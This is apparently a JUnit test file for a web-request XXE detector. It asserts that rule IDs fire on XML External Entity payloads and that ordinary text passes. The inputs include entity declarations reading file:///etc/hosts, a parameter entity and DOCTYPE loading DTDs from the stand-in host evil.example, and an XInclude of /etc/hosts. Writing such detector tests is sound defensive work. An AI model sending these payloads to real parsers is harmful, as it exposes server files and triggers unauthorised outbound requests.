package dev.bulwark.core.internal.xxe;

import static dev.bulwark.core.internal.rules.Scans.form;
import static dev.bulwark.core.internal.rules.Scans.header;
import static dev.bulwark.core.internal.rules.Scans.mebibyteOf;
import static dev.bulwark.core.internal.rules.Scans.query;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.bulwark.core.Level;
import dev.bulwark.core.internal.rules.ScanTarget;
import dev.bulwark.core.internal.rules.Scans;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class XxeDetectorTest {

    private final XxeDetector detector = new XxeDetector();

    private List<String> standard(ScanTarget target) {
        return Scans.standard(detector, target);
    }

    @Test
    void detectsExternalEntityAtBasic() {
        String xml = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>";
        assertThat(Scans.at(Level.BASIC, detector, form("doc", xml))).containsExactly("XXE-ENTITY-DECLARATION");
    }

    @Test
    void detectsParameterEntity() {
        assertThat(standard(form("doc", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>")))
                .containsExactly("XXE-ENTITY-DECLARATION");
    }

    @Test
    void detectsInternalEntityUsedForExpansionBombs() {
        assertThat(standard(form("doc", "<!ENTITY lol \"lol\">"))).containsExactly("XXE-ENTITY-DECLARATION");
    }

    @Test
    void detectsEntityDeclarationWithoutOpeningBracket() {
        assertThat(standard(query("foo!ENTITY % bar SYSTEM \"x\""))).containsExactly("XXE-ENTITY-DECLARATION");
    }

    @Test
    void detectsHtmlEscapedDeclaration() {
        assertThat(standard(query("&lt;!ENTITY xxe SYSTEM &quot;file:///x&quot;&gt;"))).containsExactly("XXE-ENTITY-DECLARATION");
    }

    @Test
    void detectsExternalDocumentType() {
        assertThat(standard(form("doc", "<!DOCTYPE r SYSTEM \"http://evil.example/a.dtd\"><r/>"))).containsExactly("XXE-DOCTYPE");
    }

    @Test
    void detectsXInclude() {
        String xml = "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/hosts\" parse=\"text\"/></a>";
        assertThat(standard(header("X-Doc", xml))).containsExactly("XXE-XINCLUDE");
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!DOCTYPE html><html><body>Hi!</body></html>", "Hello! Great entity design!",
        "<p>See the entity framework docs!</p>", "Wow!! include me", "<!-- comment -->", "a!=b",
        "<template:include name=\"x\">", "#include <stdio.h>", "Entity: ACME Ltd!"})
    void ignoresOrdinaryValues(String value) {
        assertThat(standard(form("text", value))).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {"<!", "<!ENTITY", "!ENTITY ", "<x:include", ":include:include", "&lt;!DOCTYPE a "})
    void finishesQuicklyOnRepetitiveMarkup(String unit) {
        ScanTarget target = query(mebibyteOf(unit));
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> standard(target));
    }
}
